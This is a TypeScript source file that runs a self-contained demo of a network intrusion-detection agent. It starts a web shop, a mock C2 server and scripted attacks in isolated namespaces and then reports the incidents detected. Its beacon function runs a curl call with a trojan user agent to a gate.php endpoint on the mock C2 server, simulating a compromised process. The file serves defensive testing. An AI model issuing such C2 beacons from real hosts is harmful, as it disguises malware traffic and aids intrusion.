// `proctap demo`: the real agent (eBPF capture, CRS from Debian's package, ET Open) on a workload it
// starts in its own network namespaces, incidents printed live; gRPC and /metrics on loopback; stops
// after the duration or Ctrl-C and removes everything it made.
import { spawn, spawnSync, type ChildProcess } from 'child_process';
import * as fs from 'fs';
import * as net from 'net';
import * as os from 'os';
import * as path from 'path';
import { defaultConfig, DEFAULT_GRPC_LISTEN, DEFAULT_METRICS_LISTEN } from '../config/defaults';
import { startRuntime, type Runtime } from '../agent/runtime';
import { APP_ADDR, DemoNetwork, NET_ADDR } from './topology';
import { C2_PY, VISITORS_JS, WEBAPP_PY } from './scripts';
import { ensureEtRules } from './et-rules';

export interface DemoOptions {
  durationS: number;
  /** Skip the ET download attempt (use the rules dir or the local snapshot). */
  offline?: boolean;
  /** ET rules directory (default: the configuration's default). */
  etDir?: string;
  out?: NodeJS.WritableStream;
}

function portFree(addr: string): Promise<boolean> {
  const [host, port] = [addr.slice(0, addr.lastIndexOf(':')), Number(addr.slice(addr.lastIndexOf(':') + 1))];
  return new Promise((resolve) => {
    const s = net.createServer();
    s.once('error', () => resolve(false));
    s.listen(port, host, () => s.close(() => resolve(true)));
  });
}

function waitReady(child: ChildProcess, what: string, ms = 10_000): Promise<void> {
  return new Promise((resolve, reject) => {
    let out = '';
    let err = '';
    const t = setTimeout(() => reject(new Error(`${what} did not start: ${err}`)), ms);
    child.stderr?.on('data', (d: Buffer) => (err += d.toString()));
    child.stdout?.on('data', (d: Buffer) => {
      out += d.toString();
      if (out.includes('READY')) {
        clearTimeout(t);
        resolve();
      }
    });
    child.once('exit', (code) => {
      clearTimeout(t);
      reject(new Error(`${what} exited (${code}): ${err}`));
    });
  });
}

function inNs(ns: string, cmd: string, args: string[]): ChildProcess {
  return spawn('ip', ['netns', 'exec', ns, cmd, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
}

export async function runDemo(o: DemoOptions): Promise<void> {
  const out = o.out ?? process.stdout;
  const say = (l: string) => out.write(`demo: ${l}\n`);
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'proctap-demo-'));
  let netw: DemoNetwork | undefined;
  let rt: Runtime | undefined;
  const children: ChildProcess[] = [];
  const timers: NodeJS.Timeout[] = [];
  const cleanupSync = () => netw?.remove();
  process.once('exit', cleanupSync);
  let stopRequested: () => void = () => undefined;
  const stopped = new Promise<string>((resolve) => {
    stopRequested = () => resolve('stopped');
    process.once('SIGINT', () => resolve('Ctrl-C'));
    process.once('SIGTERM', () => resolve('SIGTERM'));
  });

  try {
    // Rules.
    const config = defaultConfig();
    if (o.etDir) config.rules.et.dir = path.resolve(o.etDir);
    const etOk = await ensureEtRules(config.rules.et.dir, say, { offline: o.offline });
    if (!etOk) config.rules.et.enabled = false;
    config.limits.incident_body_bytes = 512;

    // Network and workload.
    netw = new DemoNetwork();
    say(`namespaces ${netw.app} (web shop ${APP_ADDR}, captured) and ${netw.net} (visitors and a C2 server ${NET_ADDR}, not captured)`);
    const key = path.join(work, 'key.pem');
    const cert = path.join(work, 'cert.pem');
    const r = spawnSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-days', '1', '-subj', '/CN=shop.demo', '-keyout', key, '-out', cert], { encoding: 'utf8' });
    if (r.status !== 0) throw new Error(`openssl: ${r.stderr}`);
    fs.writeFileSync(path.join(work, 'webshop.py'), WEBAPP_PY);
    fs.writeFileSync(path.join(work, 'c2.py'), C2_PY);
    fs.writeFileSync(path.join(work, 'visitors.js'), VISITORS_JS);

    // The agent, scoped to the app namespace.
    const grpcListen = (await portFree(DEFAULT_GRPC_LISTEN)) ? DEFAULT_GRPC_LISTEN : '127.0.0.1:0';
    const metricsListen = (await portFree(DEFAULT_METRICS_LISTEN)) ? DEFAULT_METRICS_LISTEN : '127.0.0.1:0';
    const eve = path.join(work, 'eve.json');
    say('starting the agent (loading rules)...');
    rt = await startRuntime({
      config,
      stateDir: path.join(work, 'state'),
      netns: [netw.appPath],
      grpcListen,
      metricsListen,
      evePath: eve,
      console: out,
      log: say,
    });
    say(`gRPC ${rt.grpc} (try: proctap incidents --follow --server ${rt.grpc}); metrics http://${rt.metrics}/metrics; EVE ${eve}`);

    const shop = inNs(netw.app, 'python3', [path.join(work, 'webshop.py'), cert, key]);
    const c2 = inNs(netw.net, 'python3', [path.join(work, 'c2.py')]);
    children.push(shop, c2);
    await Promise.all([waitReady(shop, 'the web shop'), waitReady(c2, 'the C2 server')]);
    say(`web shop (python3 pid ${shop.pid}) on http://${APP_ADDR}/ and https://${APP_ADDR}/; ${o.durationS} s of visits and attacks; Ctrl-C stops`);
    out.write('\n');

    // Pace the attacks so the whole list (10) fits in the duration when it can.
    const every = Math.round(Math.min(2500, Math.max(800, ((o.durationS - 4) * 1000) / 10)));
    const visitors = inNs(netw.net, process.execPath, [path.join(work, 'visitors.js'), APP_ADDR, String(Math.max(1, o.durationS - 2)), String(every)]);
    children.push(visitors);
    let attacks = 0;
    visitors.stdout?.on('data', (d: Buffer) => {
      for (const l of d.toString().split('\n')) if (l.startsWith('ATTACK ')) attacks++;
    });

    // A "compromised" process in the app namespace calls out to the C2 server with a trojan's user agent.
    const beacon = () => {
      if (!netw) return;
      const c = inNs(netw.app, 'curl', ['-s', '-o', '/dev/null', '--max-time', '5', '-A', 'z00sAgent', `http://${NET_ADDR}/gate.php?bot=${os.hostname().length}`]);
      children.push(c);
    };
    for (const s of [6, Math.max(7, o.durationS * 0.7)]) if (s < o.durationS) timers.push(setTimeout(beacon, s * 1000));
    timers.push(setTimeout(stopRequested, o.durationS * 1000));

    const why = await stopped;
    out.write('\n');
    say(`${why}: stopping`);
    const st = rt.agent.status();
    const held = rt.agent.store.list({ includeMasked: true }, 100000).incidents;
    const byDir = (d: string) => held.filter((i) => i.connection.direction === d).length;
    say(`${attacks} attacks sent; ${held.length} incidents (${byDir('inbound')} inbound, ${byDir('outbound')} outbound); ` + `analysed ${st.counters.transactions ?? 0} HTTP transactions`);
    const drops = Object.entries(st.counters).filter(([k]) => k.startsWith('drops.')).map(([k, v]) => `${k.slice(6)} ${v}`);
    say(`capture: ${st.counters['events.send'] ?? 0} send and ${st.counters['events.recv'] ?? 0} recv events, ${(st.counters['events.tls_write'] ?? 0) + (st.counters['events.tls_read'] ?? 0)} TLS plaintext events; drops: ${drops.join(', ')}`);
  } finally {
    for (const t of timers) clearTimeout(t);
    for (const c of children) if (c.exitCode === null) c.kill('SIGKILL');
    await rt?.stop().catch(() => undefined);
    netw?.remove();
    process.removeListener('exit', cleanupSync);
    fs.rmSync(work, { recursive: true, force: true });
    say('cleaned up (namespaces removed, processes stopped)');
  }
}
